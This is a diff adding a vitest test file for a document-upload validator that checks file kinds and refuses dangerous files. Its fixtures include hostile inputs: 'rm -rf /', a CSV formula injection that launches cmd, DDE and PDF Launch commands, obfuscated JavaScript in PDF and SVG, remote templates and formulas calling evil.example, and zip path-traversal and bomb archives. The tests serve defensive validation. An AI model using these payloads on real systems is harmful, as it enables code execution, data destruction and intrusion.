@@ -1,0 +1,146 @@
+import { deflateSync } from 'node:zlib'
+import fc from 'fast-check'
+import { beforeAll, describe, expect, test } from 'vitest'
+import { documentKinds } from '#common/uploads.ts'
+import type { FileKind } from '#common/uploads.ts'
+import { certificateTemplate, field, spoil, withMarkup, withRelation } from '../../documents/template.build.ts'
+import { DocumentError } from '../../documents/issue.ts'
+import { judge } from './judge.ts'
+import { compound, officePackage, opening, pdf, picture, relation, smallPdf, svg, vastPng, zip } from './samples.build.ts'
+import { inMemory } from './source.ts'
+
+type Bytes = Uint8Array | Promise<Uint8Array>
+const ask = async (name: string, given: Bytes, { declared = '', kinds = documentKinds, max = 100 * 2 ** 20 }: { declared?: string; kinds?: readonly FileKind[]; max?: number } = {}) => {
+  const bytes = Buffer.from(await given)
+  return judge(bytes, inMemory(bytes), { name, declared, kinds, max }).then(({ kind }) => [kind as string], (error: unknown) => {
+    if (!(error instanceof DocumentError)) throw error
+    for (const one of error.issues) expect(one.zh !== '' && one.en !== '' && one.zh !== one.en).toBe(true)
+    return error.issues.map(({ code }) => code as string)
+  })
+}
+let docx: Uint8Array
+beforeAll(async () => { docx = await certificateTemplate() })
+const latin = (text: string) => Buffer.from(text, 'latin1')
+const object = (inner: string) => latin(`%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n2 0 obj${inner}endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`)
+/** Objects packed into one stream, as PDF 1.5 has it. */
+const packed = (inner: string, dictionary = '/Type/ObjStm/N 1/First 4') => {
+  const stream = deflateSync(latin(`5 0 ${inner}`))
+  return Buffer.concat([latin(`%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n4 0 obj<<${dictionary}/Filter/FlateDecode/Length ${stream.length}>>stream\n`), stream, latin('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF')])
+}
+
+describe('what is good is taken, and is what its bytes say', () => {
+  test.each<[name: string, kind: string, make: () => Bytes, declared?: string]>([
+    ['检验报告.pdf', 'pdf', () => pdf(), 'application/pdf'],
+    ['flat.pdf', 'pdf', () => pdf(undefined, false)],
+    ['small.PDF', 'pdf', () => smallPdf(), 'application/octet-stream'],
+    ['opens at its first page.pdf', 'pdf', () => object('<</Type/Catalog/OpenAction[3 0 R/XYZ null null 0]/Names 5 0 R>>')],
+    ['has web links.pdf', 'pdf', () => object('<</Type/Annot/A<</S/URI/URI(https://example.org/JS/Launch)>>>>')],
+    ['report.docx', 'docx', () => docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+    ['表.xlsx', 'xlsx', () => officePackage('xlsx', { 'xl/printerSettings/printerSettings1.bin': new Uint8Array(4) }), 'application/wps-office.xlsx'],
+    ['slides.pptx', 'pptx', () => officePackage('pptx')],
+    ['photo.JPG', 'jpg', () => picture('jpeg'), 'image/jpeg'],
+    ['plan.png', 'png', () => picture('png')],
+    ['plan.webp', 'webp', () => picture('webp')],
+    ['scan.tiff', 'tif', () => picture('tiff')],
+    ['plan.svg', 'svg', () => svg('<style>rect{fill:url(#g)}</style><a href="https://example.org"><rect style="fill:#fff"/></a><image href="data:image/png;base64,AA=="/>')],
+    ['note.txt', 'txt', () => Buffer.from('已检验 found in order'), 'text/plain'],
+    ['note of old windows.txt', 'txt', () => Buffer.from('d2d1bcecd1e9', 'hex')],
+    ['fees.csv', 'csv', () => Buffer.from('code,fee\nA,-12.50\n"B, C",+3|4\n'), 'application/vnd.ms-excel'],
+    ['all.zip', 'zip', async () => zip({ '报告/report.pdf': await pdf(), 'a/photo.png': await picture('png'), 'empty/': '' }), 'application/x-zip-compressed'],
+  ])('%s', async (name, kind, make, declared = '') => expect(await ask(name, make(), { declared })).toEqual([kind]))
+})
+
+describe('refused, with the reason', () => {
+  test.each<[why: string, name: string, code: string, make: () => Bytes]>([
+    ['nothing in it', 'a.pdf', 'empty', () => new Uint8Array()],
+    ['a program', 'setup.exe', 'kindNotTaken', () => Buffer.concat([latin('MZ'), Buffer.alloc(200)])],
+    ['a program that says it is a PDF', 'a.pdf', 'kindNotTaken', () => Buffer.concat([latin('MZ'), Buffer.alloc(200)])],
+    ['a page', 'page.html', 'kindNotTaken', () => latin('<html><script>alert(1)</script>')],
+    ['a page that says it is text', 'page.txt', 'notText', () => latin('\n<!DOCTYPE html><p>')],
+    ['a script that says it is text', 'a.txt', 'notText', () => latin('#!/bin/sh\nrm -rf /')],
+    ['bytes that say they are text', 'a.txt', 'notText', () => Buffer.from([65, 0, 66, 255, 254, 7])],
+    ['no ending', 'report', 'nameDiffers', () => pdf()],
+    ['another ending than it is', 'plan.pdf', 'nameDiffers', () => picture('png')],
+    ['a Word file under the name of an archive', 'a.zip', 'nameDiffers', () => docx],
+    ['a cell that starts a program', 'a.csv', 'cellCommand', () => latin("name,fee\n=cmd|'/C calc'!A0,3")],
+    ['an old Word file', 'a.doc', 'oldOffice', () => compound('WordDocument')],
+    ['an old Excel file', 'a.xls', 'oldOffice', () => compound('Workbook')],
+    ['a mail of Outlook', 'a.msg', 'mailFile', () => compound('__substg1.0_')],
+    ['an encrypted Office file', 'a.docx', 'password', () => compound('EncryptedPackage')],
+    ['Word: macros', 'a.docx', 'macro', () => spoil(docx, { 'word/vbaProject.bin': latin('x') })],
+    ['Word: an attached template', 'a.docx', 'externalLink', () => withRelation(docx, 'attachedTemplate', 'http://evil.example/a.dotm')],
+    ['Word: a picture from outside', 'a.docx', 'externalLink', () => withRelation(docx, 'image', 'http://evil.example/a.png')],
+    ['Word: an old drawing from outside', 'a.docx', 'externalLink', () => withMarkup(docx, '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a.png"/></w:pict></w:r></w:p>')],
+    ['Word: DDE', 'a.docx', 'fieldCode', () => withMarkup(docx, field(' DDEAUTO c:\\\\cmd.exe '))],
+    ['Excel: macros', 'a.xlsx', 'macro', () => officePackage('xlsx', { 'xl/vbaProject.bin': 'x' })],
+    ['Excel: macro sheets of Excel 4', 'a.xlsx', 'macro', () => officePackage('xlsx', { 'xl/macrosheets/sheet1.xml': '<a/>' })],
+    ['Excel: DDE', 'a.xlsx', 'dataLink', () => officePackage('xlsx', { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' })],
+    ['Excel: another book', 'a.xlsx', 'externalLink', () => officePackage('xlsx', { 'xl/worksheets/_rels/sheet1.xml.rels': relation('externalLinkPath', 'file:///a.xlsx') })],
+    ['Excel: a formula that fetches', 'a.xlsx', 'formulaCall', () => officePackage('xlsx', { 'xl/worksheets/sheet1.xml': '<worksheet><c><f>1+_xlfn.WEBSERVICE("http://evil.example")</f></c></worksheet>' })],
+    ['Excel: an embedded file', 'a.xlsx', 'embedded', () => officePackage('xlsx', { 'xl/embeddings/oleObject1.bin': 'x' })],
+    ['PowerPoint: runs a program', 'a.pptx', 'macro', () => officePackage('pptx', { 'ppt/slides/slide1.xml': '<a action="ppaction://program"/>' })],
+    ['Excel that is no book inside', 'a.xlsx', 'nameDiffers', () => officePackage('xlsx', { '[Content_Types].xml': '<Types/>' })],
+    ['PDF: a script when it opens', 'a.pdf', 'pdfActive', () => pdf(opening({ S: 'JavaScript', JS: 'app.alert(1)' }), false)],
+    ['PDF: the same, in packed objects', 'a.pdf', 'pdfActive', () => pdf(opening({ S: 'JavaScript', JS: 'app.alert(1)' }))],
+    ['PDF: opens an address', 'a.pdf', 'pdfActive', () => pdf(opening({ S: 'URI', URI: 'http://evil.example' }))],
+    ['PDF: starts a program', 'a.pdf', 'pdfActive', () => object('<</S/Launch/F(cmd.exe)>>')],
+    ['PDF: a name written in numbers', 'a.pdf', 'pdfActive', () => object('<</S/J#61va#53cript/J#53(app.alert(1))>>')],
+    ['PDF: a file in it', 'a.pdf', 'pdfActive', () => object('<</Type/Filespec/EF<</F 5 0 R>>/Names<</EmbeddedFiles 3 0 R>>>>')],
+    ['PDF: a form of XFA', 'a.pdf', 'pdfActive', () => object('<</AcroForm<</XFA[(a)3 0 R]>>>>')],
+    ['PDF: media', 'a.pdf', 'pdfActive', () => object('<</Type/Annot/Subtype/RichMedia>>')],
+    ['PDF: packed objects without their type', 'a.pdf', 'pdfActive', () => packed('<</S/JavaScript/JS(x)>>', '/N 1/First 4')],
+    ['PDF: packed so that they cannot be read', 'a.pdf', 'pdfHidden', () => latin('%PDF-1.7\n4 0 obj<</N 1/First 4/Filter/LZWDecode/Length 4>>stream\nabcd\nendstream endobj\n%%EOF')],
+    ['PDF: an earlier revision', 'a.pdf', 'pdfActive', async () => Buffer.concat([object('<</S/JavaScript/JS(x)>>'), await pdf()])],
+    ['PDF: an object in a text', 'a.pdf', 'pdfHidden', () => object('<</A( 9 0 obj<</S/JavaScript>>endobj )>>')],
+    ['PDF: an object in a stream', 'a.pdf', 'pdfHidden', () => object('<</Length 30>>stream\n9 0 obj<</S/JavaScript>>endobj \nendstream ')],
+    ['PDF: an object in a remark', 'a.pdf', 'pdfHidden', () => object('% 9 0 obj<</S/JavaScript>>endobj\n<<>>')],
+    ['PDF: encrypted', 'a.pdf', 'pdfLocked', () => latin('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R/Encrypt 2 0 R>>\n%%EOF')],
+    ['PDF: cut off', 'a.pdf', 'pdfUnfinished', async () => (await pdf()).subarray(0, 400)],
+    ['PDF: something behind it', 'a.pdf', 'twoInOne', async () => Buffer.concat([await pdf(), latin('<script>alert(1)</script>')])],
+    ['PDF and archive in one', 'a.pdf', 'twoInOne', async () => Buffer.concat([await pdf(), zip({ 'a.txt': 'a' })])],
+    ['PNG and archive in one', 'a.png', 'twoInOne', async () => Buffer.concat([await picture('png'), zip({ 'a.txt': 'a' })])],
+    ['JPEG with a page in it', 'a.jpg', 'twoInOne', async () => Buffer.concat([await picture('jpeg'), latin('<script>alert(1)</script>')])],
+    ['a picture of a surface that it does not have', 'a.png', 'imageTooLarge', () => vastPng(50_000, 50_000)],
+    ['a picture cut off', 'a.png', 'badPicture', async () => (await picture('png')).subarray(0, 50)],
+    ['SVG: a script', 'a.svg', 'svgActive', () => svg('<script>alert(1)</script>')],
+    ['SVG: an event', 'a.svg', 'svgActive', () => svg('<rect onclick="alert(1)"/>')],
+    ['SVG: a page in it', 'a.svg', 'svgActive', () => svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>')],
+    ['SVG: a script as an address', 'a.svg', 'svgActive', () => svg('<a xlink:href="java&#x73;cript:alert(1)"><rect/></a>')],
+    ['SVG: an address that is set later', 'a.svg', 'svgActive', () => svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>')],
+    ['SVG: a picture from outside', 'a.svg', 'svgOutside', () => svg('<image href="https://evil.example/a.png"/>')],
+    ['SVG: a style from outside', 'a.svg', 'svgActive', () => svg('<style>@im\\70ort "https://evil.example/a.css"</style>')],
+    ['SVG: a fill from outside', 'a.svg', 'svgOutside', () => svg('<rect style="fill:url(//evil.example/a)"/>')],
+    ['SVG: entities', 'a.svg', 'doctype', () => latin('<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg"/>')],
+    ['SVG: a depth that a reader would fall into', 'a.svg', 'badSvg', () => svg('<g>'.repeat(5000) + '</g>'.repeat(5000))],
+    ['archive: an archive in it', 'a.zip', 'nested', () => zip({ 'b.zip': zip({ 'c.txt': 'c' }) })],
+    ['archive: one under another name', 'a.zip', 'nested', () => zip({ 'b.txt': zip({ 'c.txt': 'c' }) })],
+    ['archive: a program in it', 'a.zip', 'kindNotTaken', () => zip({ 'setup.exe': 'MZ' })],
+    ['archive: a file outside it', 'a.zip', 'brokenZip', () => zip({ '../../etc/passwd.txt': 'a' })],
+    ['archive: grows too large', 'a.zip', 'bomb', () => zip({ 'a.txt': Buffer.alloc(2 ** 21, 65) })],
+    ['archive: too many files', 'a.zip', 'bomb', () => zip(Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`${i}.txt`, 'a'])), 'STORE')],
+    ['archive: something in front of it', 'a.zip', 'kindNotTaken', () => Buffer.concat([latin('MZ front'), zip({ 'a.txt': 'a' })])],
+  ])('%s', async (_, name, code, make) => expect(await ask(name, make())).toContain(code))
+})
+
+test('what is declared must agree with what it is', async () => {
+  expect(await ask('a.pdf', smallPdf(), { declared: 'image/png' })).toEqual(['declaredDiffers'])
+  expect(await ask('a.png', picture('png'), { declared: 'text/html' })).toEqual(['declaredDiffers'])
+})
+
+test('each purpose takes its own kinds, and no more than it may weigh', async () => {
+  expect(await ask('a.pdf', smallPdf(), { kinds: ['png'] })).toEqual(['kindNotTaken', 'kindsTaken'])
+  expect(await ask('a.svg', svg(), { kinds: ['png', 'jpg', 'webp'] })).toEqual(['kindNotTaken', 'kindsTaken'])
+  expect(await ask('a.pdf', Buffer.concat([smallPdf(), Buffer.alloc(2 ** 20, 32)]), { max: 2 ** 20 })).toEqual(['largeFile'])
+  expect(await ask('form.json', latin('{"a":1}'), { kinds: ['json'] })).toEqual(['json'])
+  expect(await ask('form.json', latin('{"a":'), { kinds: ['json'] })).toEqual(['badJson'])
+})
+
+test('no damaged file makes the judge fail: it answers in words', async () => {
+  const good: [string, Buffer][] = [['a.pdf', await pdf()], ['a.docx', Buffer.from(docx)], ['a.png', await picture('png')], ['a.svg', svg()], ['a.zip', zip({ 'a.txt': 'a' })]]
+  await fc.assert(fc.asyncProperty(fc.nat(good.length - 1), fc.array(fc.record({ at: fc.nat(), to: fc.nat(255) }), { minLength: 1, maxLength: 8 }), fc.option(fc.nat()), async (which, changes, cut) => {
+    const [name, bytes] = good[which]!
+    const file = Buffer.from(bytes.subarray(0, cut === null ? bytes.length : cut % bytes.length))
+    for (const { at, to } of changes) if (file.length) file[at % file.length] = to
+    expect((await ask(name, file)).length).toBeGreaterThan(0)
+  }), { numRuns: 200 })
+})
